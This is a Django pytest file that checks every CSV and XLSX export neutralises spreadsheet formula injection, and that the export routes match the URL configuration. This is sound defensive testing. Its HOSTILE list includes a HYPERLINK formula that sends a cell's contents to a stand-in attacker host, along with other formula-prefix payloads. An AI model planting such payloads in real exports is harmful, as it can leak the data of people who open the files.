"""Every download (CSV and XLSX) writes what people typed as inert text: nothing a spreadsheet would run
as a formula (the OWASP CSV-injection rule). The list of downloads is checked against the URL conf, so a
new export route fails here until it is added."""

import csv
import io
import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from acceptance import models as acceptance_models
from issues.models import Issue
from issues.services import issue_create
from modules.services import module_end_user_add
from people.models import Membership, User
from tests.acceptance.factories import cycle_make, scenario_make
from tests.factories import MembershipFactory, module_make

pytestmark = pytest.mark.django_db

Role = Membership.Role

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&B5,"Open details")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")

# Route name → the query string that asks for the file (without the format).
EXPORT_ROUTES = {
    "issues:export": "",
    "people:export": "",
    "people:import_template": "",
    "modules:matrix_export": "",
    "training:go_live_access": "export=",
    "acceptance:cycle_export": "",
    "acceptance:scenario_export": "",
    "readiness:export": "",
}
# Pages that also serve a download when asked with a query parameter (the URL name does not say so).
DOWNLOAD_PAGES = {"training:go_live_access"}


def _route_names(resolver: URLResolver, namespace: str = "") -> set[str]:
    names = set()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            names |= _route_names(pattern, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            names.add(namespace + pattern.name)
    return names


def test_every_export_route_is_in_the_list():
    downloads = {name for name in _route_names(get_resolver()) if re.search(r"(export|template)$", name)}
    assert downloads | DOWNLOAD_PAGES == set(EXPORT_ROUTES)


def _plant(team, value: str):
    """The value in every user-typed field an export reads."""
    project = team.project
    evil = MembershipFactory(project=project, role=Role.KEY_USER, department=value)
    worker = MembershipFactory(project=project, role=Role.END_USER, department=value)
    User.objects.filter(pk__in=[evil.user_id, worker.user_id]).update(first_name=value, last_name=value)
    module = module_make(project=project, key_users=[evil], code="evil")
    module.__class__.objects.filter(pk=module.pk).update(name=value)
    module_end_user_add(module=module, membership=worker)
    scenario = scenario_make(module=module, reference="EVIL-1", owner=evil)
    acceptance_models.TestScenario.objects.filter(pk=scenario.pk).update(
        title=value, business_process=value, description=value
    )
    acceptance_models.TestStep.objects.filter(scenario=scenario).update(action=value, expected_result=value)
    cycle = cycle_make(project=project, scenarios=[scenario], name="UAT evil")
    issue = issue_create(
        module=module,
        title="Placeholder",
        description="x",
        category=Issue.Category.DEFECT,
        severity=Issue.Severity.S2,
        reporter=evil,
        affected_end_user=worker,
    )
    Issue.objects.filter(pk=issue.pk).update(title=value, resolution=value)
    return cycle


def _kwargs(name: str, team, cycle) -> list:
    return [team.project.pk, cycle.pk] if name == "acceptance:cycle_export" else [team.project.pk]


def _cells(response, file_format: str) -> list[tuple[object, str]]:
    """Every cell of the download: (value, XLSX data type or "" for CSV)."""
    if file_format == "csv":
        text = response.content.decode("utf-8-sig")
        return [(cell, "") for row in csv.reader(io.StringIO(text)) for cell in row]
    workbook = load_workbook(io.BytesIO(response.content))
    return [(cell.value, cell.data_type) for row in workbook.active.iter_rows() for cell in row]


def _unsafe(value, data_type: str) -> bool:
    if data_type == "f":
        return True
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not NUMBER.match(value)


@pytest.mark.parametrize("value", HOSTILE, ids=["hyperlink", "plus", "minus", "at", "tab", "carriage-return"])
def test_no_export_writes_a_formula(team, value):
    cycle = _plant(team, value)
    client = team.client_for(Role.APP_CONSULTANT)
    for name, query in EXPORT_ROUTES.items():
        for file_format in ("csv", "xlsx"):
            url = reverse(name, args=_kwargs(name, team, cycle))
            response = client.get(f"{url}?{query or 'format='}{file_format}")
            assert response.status_code == 200, name
            assert response["Content-Disposition"].endswith(f'.{file_format}"'), name
            cells = _cells(response, file_format)
            assert not [cell for cell in cells if _unsafe(*cell)], (name, file_format)
            if name != "people:import_template":  # the template shows examples, not the project's data
                assert any(isinstance(v, str) and v.startswith("'") for v, _type in cells), (name, file_format)
